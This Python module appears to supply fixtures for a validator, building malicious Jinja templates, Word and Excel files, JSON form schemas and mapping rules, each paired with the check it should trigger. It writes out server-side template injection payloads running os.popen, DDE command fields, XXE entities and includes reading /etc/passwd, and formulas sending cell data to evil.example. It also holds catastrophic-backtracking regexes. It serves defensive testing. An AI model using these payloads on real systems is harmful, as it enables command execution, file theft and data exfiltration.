"""Templates, forms and mappings that mean harm: (name, kind, payload, check, rule)."""

import io
import json
import zipfile
from collections.abc import Iterator
from typing import Any

from docx import Document
from openpyxl import Workbook
from openpyxl.workbook.defined_name import DefinedName

RELATION = (
    '<Relationship Id="rEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'
)

ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def docx(text: str = "{{ name }}") -> bytes:
    """A Word file with one paragraph."""
    document, buffer = Document(), io.BytesIO()
    document.add_paragraph(text)
    document.save(buffer)
    return buffer.getvalue()


def xlsx(formula: str | None = None) -> bytes:
    """A workbook with a name for its first row, and a formula."""
    book, buffer = Workbook(), io.BytesIO()
    assert book.active is not None
    book.active["B1"] = formula
    book.defined_names["first_row"] = DefinedName("first_row", attr_text="Sheet!$A$3")
    book.save(buffer)
    return buffer.getvalue()


def changed(content: bytes, add: dict[str, bytes] | None = None, replace: tuple[str, bytes, bytes] | None = None) -> bytes:
    """An office file with parts added, or with one part's bytes replaced."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w") as new:
        for info in old.infolist():
            data = old.read(info)
            if replace and info.filename == replace[0]:
                assert replace[1] in data
                data = data.replace(replace[1], replace[2], 1)
            new.writestr(info.filename, data)
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return buffer.getvalue()


def external(content: bytes, rels: str, kind: str, target: str) -> bytes:
    """With a relationship that points out of the file."""
    return changed(content, replace=(rels, b"</Relationships>", RELATION.format(kind=kind, target=target).encode() + b"</Relationships>"))


def texts() -> Iterator[tuple[str, bytes, str]]:
    """Text templates."""
    yield from [
        ("walks attributes", b"{{ ''.__class__.__mro__[1].__subclasses__() }}", "template_reaches_inside"),
        ("takes the globals of a global", b"{{ cycler.__init__.__globals__.os.popen('id').read() }}", "template_reaches_inside"),
        ("walks by text", b"{{ name['__class__'] }}", "template_reaches_inside"),
        ("walks by filter", b"{{ name|attr('__class__') }}", "template_reaches_inside"),
        ("walks by map", b"{{ [name]|map(attribute='__class__')|list }}", "template_reaches_inside"),
        ("walks by a name that data gives", b"{{ [name]|map(attribute=name)|list }}", "template_reaches_inside"),
        ("walks by sorting", b"{{ [name]|sort(attribute='__class__') }}", "template_reaches_inside"),
        ("loads a file", b"{% include '/etc/passwd' %}", "template_loads_files"),
        ("inherits from a file", b"{% extends 'x' %}", "template_loads_files"),
        ("imports a file", b"{% import '/etc/passwd' as x %}", "template_loads_files"),
        ("calls what is not known", b"{{ lipsum() }}", "template_calls"),
        ("calls a method that is not known", b"{{ name.encode('utf-7') }}", "template_calls"),
        ("is not closed", b"{% if name %}", "template_syntax"),
    ]  # fmt: skip


def documents() -> Iterator[tuple[str, bytes, str]]:
    """Word templates."""
    main = "word/_rels/document.xml.rels"
    field = b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r></w:p></w:body>'
    yield from [
        ("holds a macro", changed(docx(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "office_macro"),
        ("calls itself macro-enabled", changed(docx(), replace=("[Content_Types].xml", b"document.main+xml", b"macroEnabled.main+xml")), "office_macro"),
        ("takes its template from elsewhere", external(docx(), main, "attachedTemplate", "http://evil.example/x.dotm"), "office_external_link"),
        ("tracks its readers by a picture", external(docx(), main, "image", "http://evil.example/pixel.png"), "office_external_link"),
        ("asks a file server", external(docx(), main, "image", r"file://\\evil.example\share"), "office_external_link"),
        ("holds an object", changed(docx(), {"word/embeddings/oleObject1.bin": b"x"}), "office_embedded_object"),
        ("holds a control", changed(docx(), {"word/activeX/activeX1.xml": b"<a/>"}), "office_embedded_object"),
        ("runs by DDE", changed(docx(), replace=("word/document.xml", b"</w:body>", field % b"DDEAUTO c:\\windows\\system32\\cmd.exe")), "office_field"),
        ("includes a file", changed(docx(), replace=("word/document.xml", b"</w:body>", field % b"INCLUDETEXT /etc/passwd")), "office_field"),
        ("declares entities", changed(docx(), replace=("word/document.xml", b"<w:document", ENTITY + b"<w:document")), "office_entities"),
        ("walks attributes", docx("{{ ''.__class__.__mro__ }}"), "template_reaches_inside"),
        ("is no document", zip_bytes({"x.txt": b"x"}), "office_unreadable"),
    ]  # fmt: skip


def zip_bytes(files: dict[str, bytes]) -> bytes:
    """A plain zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def workbooks() -> Iterator[tuple[str, bytes, str]]:
    """Excel templates."""
    yield from [
        ("runs by DDE", xlsx("=cmd|'/c calc'!A0"), "formula_reaches_out"),
        ("fetches", xlsx('=WEBSERVICE("http://evil.example/?"&A1)'), "formula_reaches_out"),
        ("leads away", xlsx('=HYPERLINK("http://evil.example/?"&A1,"click")'), "formula_reaches_out"),
        ("reads another workbook", xlsx("='[other.xlsx]Sheet1'!A1"), "formula_reaches_out"),
        ("hides where it reads", xlsx('=INDIRECT("A"&1)'), "formula_reaches_out"),
        ("holds a link to another workbook", changed(xlsx(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), "office_external_link"),
        ("holds a connection", changed(xlsx(), {"xl/connections.xml": b"<connections/>"}), "office_external_link"),
        ("holds a macro", changed(xlsx(), {"xl/vbaProject.bin": b"x"}), "office_macro"),
        ("holds an old macro sheet", changed(xlsx(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), "office_macro"),
        ("declares entities", changed(xlsx(), replace=("xl/workbook.xml", b"<workbook", ENTITY + b"<workbook")), "office_entities"),
    ]  # fmt: skip


def _form(**more: Any) -> bytes:
    return json.dumps({"type": "object", "properties": {"name": {"type": "string"}}, **more}).encode()


def forms() -> Iterator[tuple[str, bytes, str]]:
    """Form schemas."""
    yield from [
        ("refers to another server", _form(allOf=[{"$ref": "http://evil.example/schema.json"}]), "schema_reference"),
        ("refers to a file", _form(allOf=[{"$ref": "file:///etc/passwd"}]), "schema_reference"),
        ("moves its base", _form(**{"$id": "http://evil.example/", "allOf": [{"$ref": "#/$defs/x"}], "$defs": {"x": {}}}), "schema_reference"),
        ("backtracks for ever", _form(patternProperties={"^(a+)+$": {}}), "schema_pattern"),
        ("backtracks for ever over choices", _form(properties={"name": {"pattern": "^(a|aa)*$"}}), "schema_pattern"),
        ("is of another draft", _form(**{"$schema": "http://json-schema.org/draft-04/schema#"}), "schema_invalid"),
        ("is no schema", _form(type="thing"), "schema_invalid"),
        ("is too deep", b'{"not":' * 2000 + b"{}" + b"}" * 2000, "json_large"),
        ("says a key twice", b'{"type": "object", "type": "array"}', "json_unreadable"),
    ]  # fmt: skip


def mappings() -> Iterator[tuple[str, bytes, str]]:
    """Mapping rules; the manifest lets them write leads."""

    def rules(*fields: dict[str, Any], target: str = "lead") -> bytes:
        return json.dumps({"target": target, "fields": list(fields)}).encode()

    plain = {"target": "name", "source": "姓名"}
    yield from [
        ("swells each row", rules({"target": "name", "const": "x" * 100_000}), "mapping_large"),
        ("has too many fields", rules(*({"target": f"f{n}", "source": "姓名"} for n in range(500))), "mapping_large"),
        ("has too many words", rules({**plain, "transforms": [{"lookup": {f"w{n}": "x" for n in range(5000)}}]}), "mapping_large"),
        ("has an unknown transform", rules({**plain, "transforms": ["eval"]}), "mapping_invalid"),
        ("writes a field twice", rules(plain, plain), "mapping_invalid"),
        ("writes what it does not declare", rules(plain, target="invoice"), "manifest_permission_missing"),
        ("is too large", b'{"target": "lead", "description": "' + b"x" * 300_000 + b'", "fields": []}', "json_large"),
    ]  # fmt: skip
